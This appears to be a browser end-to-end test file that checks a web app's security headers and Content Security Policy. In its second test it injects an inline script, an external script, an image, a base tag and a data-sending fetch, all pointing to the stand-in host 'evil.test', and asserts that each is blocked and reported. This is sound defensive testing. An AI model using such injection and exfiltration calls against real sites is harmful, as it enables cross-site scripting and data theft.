import { collectViolations } from '../commands/policy-violations.ts';
import { expect, test } from '../commands/test.ts';

test('every answer carries the security headers, and the page itself its policy', async ({ page, request }) => {
  const response = await page.goto('/o/anywhere/pm/groups');
  const headers = response?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'self'; script-src 'self';");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'same-origin',
    'cross-origin-opener-policy': 'same-origin',
    'cache-control': 'no-cache',
  });
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', policy.replace("; frame-ancestors 'none'", ''));

  const script = (await page.locator('script[type="module"]').first().getAttribute('src')) ?? '';
  const asset = await request.get(script);
  expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
});

// Nothing is reported on any page that is the app's own: dark.spec.ts. That it can fail is proved here.
test('what an attacker would put into the page is stopped, and reported', async ({ page }) => {
  const violations = await collectViolations(page);
  await page.goto('/sign-in');
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.taken = true';
    document.body.append(inline);
    const elsewhere = document.createElement('script');
    elsewhere.src = 'https://evil.test/x.js';
    document.body.append(elsewhere);
    const image = document.createElement('img');
    image.src = 'https://evil.test/x.png';
    document.body.append(image);
    const base = document.createElement('base');
    base.href = 'https://evil.test/';
    document.head.append(base);
    return fetch('https://evil.test/?data=x').catch(() => undefined);
  });
  await expect.poll(() => violations.join('\n')).toMatch(/script-src-elem stopped inline/);
  const reported = violations.join('\n');
  expect(reported).toMatch(/script-src-elem stopped https:\/\/evil\.test\/x\.js/);
  expect(reported).toMatch(/img-src stopped/);
  expect(reported).toMatch(/connect-src stopped/);
  expect(reported).toMatch(/base-uri stopped/);
  expect(await page.evaluate(() => 'taken' in window)).toBe(false);
});
